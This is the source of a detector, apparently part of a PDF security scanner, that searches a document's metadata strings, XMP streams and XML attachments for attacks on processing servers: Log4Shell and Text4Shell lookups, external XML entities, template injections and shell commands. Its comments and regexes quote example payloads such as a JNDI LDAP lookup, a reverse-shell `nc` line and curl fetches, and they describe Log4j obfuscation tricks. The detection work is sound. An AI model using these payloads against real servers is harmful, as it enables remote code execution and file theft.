// Payloads aimed at the software that processes a document on a server, not at its reader: document
// pipelines log a file's title and author, index its metadata and parse its XMP as XML. A Log4j
// lookup (`${jndi:ldap://host/a}`, CVE-2021-44228) in a logged value makes the server load a class
// from the attacker's host; an Apache Commons Text lookup (`${script:javascript:...}`, CVE-2022-42889)
// runs code where the value is interpolated; an external entity in the XMP packet makes an XML parser
// read a local file or fetch a URL (Apache Tika, CVE-2016-4434). Looked for where servers read:
// the strings of the document's objects (information dictionary, field values, annotations, outline
// titles, attachment names), its XML metadata streams and its XML attachments. Page content is not searched: an advisory
// about Log4Shell shows the string to its readers, and no server interpolates a page.
import type { PdfDocument } from "../../pdf/document";
import { PdfStream } from "../../pdf/objects";
import { classifyLocation } from "../content/classify-location";
import { bytesToText } from "../content/text";
import { isDeclarationAt, readDeclaration, type ExternalDeclaration } from "../content/xml-declarations";
import { nameOf } from "./actions";
import type { EmbeddedFileFact } from "./embedded";

export interface ProcessorInjectionFact {
  kind: "lookup" | "external-entity" | "template" | "command";
  /** what the payload is, e.g. "Log4j JNDI lookup (CVE-2021-44228)" */
  what: string;
  /** the payload as written (a window of it), or the declaration */
  excerpt: string;
  /** the host or file it reaches: `ldap://host/a`, `file:///etc/passwd` */
  target?: string;
  objectRef?: string;
  /** "string 7 0 R", "XML metadata 12 0 R" */
  where: string;
}

/** A window, not a budget: an attachment whose first characters (after spaces and a BOM) are no `<` is no XML. */
const XML_SNIFF_BYTES = 64;
/** A window, not a budget: characters read after a `${` (a lookup and the lookups nested in it). */
const LOOKUP_WINDOW_CHARS = 512;
/** A bound of the method, not a budget: rounds of unwrapping nested lookups (`${${lower:j}ndi:...}`), one level each. */
const MAX_UNWRAP_ROUNDS = 8;

/**
 * Lookups that stand for a single piece of text, as obfuscated payloads nest them to hide `jndi`:
 * a default value (`${::-j}`, `${env:NOPE:-j}`, `${date:'j'}` aside) and a case change
 * (`${lower:J}`, `${upper:n}`). Replaced by that text, innermost first.
 */
const DEFAULT_VALUE = /\$\{[^${}]{0,64}?:-([^${}]{0,64})\}/g;
const CASE_CHANGE = /\$\{(?:lower|upper):([^${}]{0,64})\}/gi;

/** The lookups that reach outside the process, with what they are (Log4j 2 lookups; Commons Text StringSubstitutor). */
const DANGEROUS_LOOKUPS: readonly { what: string; head: RegExp }[] = [
  {
    what: "Log4j JNDI lookup (Log4Shell, CVE-2021-44228)",
    head: /^\$\{\s*jndi\s*:\s*((?:ldaps?|rmi|dns|iiop|corba|nds|nis|http|https):[^\s}]{0,200})/i,
  },
  {
    what: "Commons Text script lookup (Text4Shell, CVE-2022-42889)",
    head: /^\$\{\s*script\s*:\s*(?:javascript|js|nashorn|groovy)\s*:([^}]{0,200})/i,
  },
  {
    what: "Commons Text URL lookup (Text4Shell, CVE-2022-42889)",
    head: /^\$\{\s*url\s*:[\w-]+:((?:https?|file|ftp):[^\s}]{0,200})/i,
  },
  {
    what: "Commons Text DNS lookup (Text4Shell, CVE-2022-42889)",
    head: /^\$\{\s*dns\s*:\s*(?:address|canonical-name|name)\|([^\s}]{1,200})/i,
  },
];

/**
 * Template and shell injections in a value a server renders or passes on: code for a template engine
 * that reaches the runtime (Jinja2's object traversal, FreeMarker's Execute, Spring EL or OGNL naming
 * java.lang.Runtime, Velocity's class loading, ERB or EJS code), a template probe's arithmetic
 * (`{{7*7}}`: a pentest tool checking whether the server evaluates it), and a shell command that
 * fetches or opens a shell, after a substitution or a separator (`$(curl https://...)`,
 * `; nc host 4444 -e /bin/sh`): what upload-testing tools write into titles, authors and field values
 * (PortSwigger's SSTI research; PayloadsAllTheThings). Each pattern is anchored on a literal and its
 * runs are bounded: linear. A shell probe without a fetch (`;sleep 10`, `$(whoami)`) is left out: a
 * shell tutorial's bookmarks name the same commands.
 */
type ServerPayload = { kind: "template" | "command"; what: string };
const SERVER_PAYLOADS: readonly (ServerPayload & { anchor: string; pattern: RegExp })[] = [
  {
    kind: "template",
    what: "template injection reaching the runtime (Jinja2 or Twig)",
    anchor: "{{",
    pattern:
      /\{\{[^{}]{0,200}?(?:__(?:class|globals|builtins|import|subclasses|mro|init)__|\bconfig\.items\b|\b_self\.env\b|\b(?:lipsum|cycler|joiner)\.__|\brequest\.application\b|\bos\.popen\b|\bregisterUndefinedFilterCallback\b)/i,
  },
  {
    kind: "template",
    what: "template injection reaching the runtime (FreeMarker)",
    anchor: "freemarker",
    pattern: /freemarker\.template\.utility\.(?:Execute|ObjectConstructor|JythonRuntime)/i,
  },
  {
    kind: "template",
    what: "expression injection reaching the runtime (Spring EL, OGNL or JSP EL)",
    anchor: "{",
    pattern:
      /[$#%]\{[^{}]{0,200}?(?:T\s{0,5}\(\s{0,5}java\.lang\.(?:Runtime|ProcessBuilder|System)\b|@java\.lang\.Runtime@|#_memberAccess|getRuntime\s{0,5}\(\s{0,5}\)\s{0,5}\.\s{0,5}exec\b)/i,
  },
  {
    kind: "template",
    what: "template injection reaching the runtime (Velocity)",
    anchor: "#set",
    pattern: /#set\s{0,5}\(\s{0,5}\$[\w.]{1,40}\s{0,5}=[^)]{0,200}?(?:\.forName\s{0,5}\(|java\.lang\.Runtime)/i,
  },
  {
    kind: "template",
    what: "template injection running code (ERB or EJS)",
    anchor: "<%",
    pattern:
      /<%=?\s{0,20}(?:system\s{0,5}\(|exec\s{0,5}\(|spawn\s{0,5}\(|IO\.popen|`|require\s{0,5}\(\s{0,5}["']child_process|process\.mainModule)/i,
  },
  {
    kind: "template",
    what: "template injection probe",
    anchor: "*",
    pattern: /(?:\{\{|[$#]\{|<%=)\s{0,5}\d{1,4}\s{0,5}\*\s{0,5}\d{1,4}\s{0,5}(?:\}\}|\}|%>)/,
  },
  {
    kind: "command",
    what: "shell command substitution that fetches or opens a shell",
    anchor: "",
    pattern:
      /(?:\$\(|`)\s{0,5}(?:(?:curl|wget)\s[^()`\n]{0,200}?(?:https?|ftp):\/\/|(?:nc|ncat)\s+(?:-[a-z]{1,4}(?:\s+[\w./-]{1,100})?\s+){0,4}[\w.-]{1,100}\s+\d{2,5}\b|(?:bash|sh)\s+-i\b|python3?\s+-c\s|powershell(?:\.exe)?\s)/i,
  },
  {
    kind: "command",
    what: "shell command after a separator that fetches or opens a shell",
    anchor: "",
    pattern:
      /(?:;|\|\|?|&&)\s{0,5}(?:(?:curl|wget)\s[^;|&\n]{0,200}?(?:https?|ftp):\/\/|(?:nc|ncat)\s+(?:-[a-z]{1,4}(?:\s+[\w./-]{1,100})?\s+){0,4}[\w.-]{1,100}\s+\d{2,5}\b|(?:bash|sh)\s+-i\b|\/bin\/(?:ba)?sh\s+-[ci]\b|powershell(?:\.exe)?\s+(?:-\w+(?:\s+\w+)?\s+){0,6}-(?:e|enc|encodedcommand)\s)/i,
  },
];
/** a window, not a budget: the characters of a value read for template and shell payloads */
const SERVER_PAYLOAD_WINDOW_CHARS = 64 * 1024;
/** the command patterns' precondition: one of their commands as a word (most values hold none) */
const SHELL_WORDS = /\b(?:curl|wget|nc|ncat|bash|sh|python3?|powershell)\b/i;

/** The template and shell payloads in `text`, one per pattern. */
export function findServerPayloads(text: string): (ServerPayload & { excerpt: string })[] {
  const head = text.length > SERVER_PAYLOAD_WINDOW_CHARS ? text.slice(0, SERVER_PAYLOAD_WINDOW_CHARS) : text;
  const out: (ServerPayload & { excerpt: string })[] = [];
  let shell: boolean | undefined;
  for (const { kind, what, anchor, pattern } of SERVER_PAYLOADS) {
    if (anchor ? !head.includes(anchor) : !(shell ??= SHELL_WORDS.test(head))) continue;
    const m = pattern.exec(head);
    if (m) out.push({ kind, what, excerpt: head.slice(m.index, m.index + 160) });
  }
  return out;
}

/**
 * The dangerous lookups in `text`, once each. Each `${` is read over LOOKUP_WINDOW_CHARS with its
 * nested lookups unwrapped; `candidates` counts the `${` read against the document's budget.
 */
export function findLookups(
  text: string,
  candidates: { left: number },
): { what: string; excerpt: string; target: string }[] {
  const out: { what: string; excerpt: string; target: string }[] = [];
  for (let at = text.indexOf("${"); at !== -1; at = text.indexOf("${", at + 2)) {
    if (candidates.left-- <= 0) break;
    const window = text.slice(at, at + LOOKUP_WINDOW_CHARS);
    let plain = window;
    for (let round = 0; round < MAX_UNWRAP_ROUNDS; round++) {
      const next = plain.replace(DEFAULT_VALUE, "$1").replace(CASE_CHANGE, "$1");
      if (next === plain) break;
      plain = next;
    }
    for (const { what, head } of DANGEROUS_LOOKUPS) {
      const m = head.exec(plain);
      if (m && !out.some((o) => o.what === what && o.target === m[1]))
        out.push({ what, excerpt: window.slice(0, 160), target: m[1] });
    }
  }
  return out;
}

/** The payloads for document-processing servers in the document's strings and XML metadata. */
export function collectProcessorInjections(
  doc: PdfDocument,
  strings: ReadonlyMap<string, string>,
  embedded: readonly EmbeddedFileFact[],
): ProcessorInjectionFact[] {
  const out: ProcessorInjectionFact[] = [];
  const candidates = { left: doc.limits.MAX_LOOKUP_CANDIDATES };
  const lookupsIn = (text: string, where: string, objectRef: string) => {
    if (!text.includes("${")) return;
    for (const l of findLookups(text, candidates)) out.push({ kind: "lookup", ...l, objectRef, where });
  };
  const entityIn = (xml: string, what: string, where: string, objectRef: string | undefined) => {
    const declaration = xml.includes("<!") ? firstHostileDeclaration(xml) : null;
    if (declaration)
      out.push({
        kind: "external-entity",
        what,
        excerpt: declaration.element,
        target: declaration.target,
        objectRef,
        where,
      });
  };
  const payloadsIn = (text: string, where: string, objectRef: string) => {
    for (const p of findServerPayloads(text)) out.push({ ...p, objectRef, where });
  };
  for (const [ref, text] of strings) {
    lookupsIn(text, `string ${ref}`, ref);
    payloadsIn(text, `string ${ref}`, ref);
  }
  if (!doc.encrypted || doc.decryptStream) {
    for (const inst of doc.table.values()) {
      const num = inst.num;
      const v = inst.value;
      // a metadata stream (§14.3.2: /Type /Metadata), on the catalog, a page, an image or a font
      if (!(v instanceof PdfStream) || nameOf(doc.resolve(v.dict.get("Type"))) !== "Metadata") continue;
      const d = doc.decode(v);
      if (d.encrypted) continue;
      const ref = `${num} ${inst.gen} R`;
      const xml = bytesToText(d.data, doc.limits.MAX_XMP_BYTES);
      lookupsIn(xml, `XML metadata ${ref}`, ref);
      payloadsIn(xml, `XML metadata ${ref}`, ref);
      entityIn(xml, "XML external entity in the metadata (XXE)", `XML metadata ${ref}`, ref);
    }
  }
  // an XML attachment is parsed by the server that takes the document in: an e-invoice's XML
  // (ZUGFeRD, Factur-X, XRechnung) by an accounts-payable pipeline
  for (const e of embedded) {
    // (bytesToText reads a byte order mark and drops it)
    const head = bytesToText(e.data.subarray(0, XML_SNIFF_BYTES), XML_SNIFF_BYTES).trimStart();
    if (!head.startsWith("<")) continue;
    const xml = bytesToText(e.data, doc.limits.MAX_XMP_BYTES);
    entityIn(xml, "XML external entity in an XML attachment (XXE)", `attachment ${e.name}`, e.objectRef);
  }
  if (candidates.left < 0) doc.budgetHits.add("MAX_LOOKUP_CANDIDATES");
  return out;
}

/**
 * Hosts of the standard DTDs an old generator may name in a DOCTYPE (W3C's XHTML and SVG, Dublin Core,
 * Adobe's): a validating parser fetches them from their publisher, which tells no attacker anything.
 */
const STANDARD_DTD_HOSTS = new Set([
  "www.w3.org",
  "w3.org",
  "dublincore.org",
  "purl.org",
  "ns.adobe.com",
  "www.adobe.com",
]);

/**
 * The first external entity, or external DTD of a host other than a standard's publisher, that `xml`
 * declares (content/xml-declarations.ts reads each `<!DOCTYPE` and `<!ENTITY`).
 */
export function firstHostileDeclaration(xml: string): ExternalDeclaration | null {
  for (let lt = xml.indexOf("<!"); lt !== -1; lt = xml.indexOf("<!", lt + 2)) {
    const d = isDeclarationAt(xml, lt) ? readDeclaration(xml, lt) : null;
    if (!d) continue;
    const host = classifyLocation(d.target, "uri").host ?? "";
    const standardDtd = d.element.startsWith("<!DOCTYPE") && STANDARD_DTD_HOSTS.has(host);
    if (!standardDtd) return d;
  }
  return null;
}
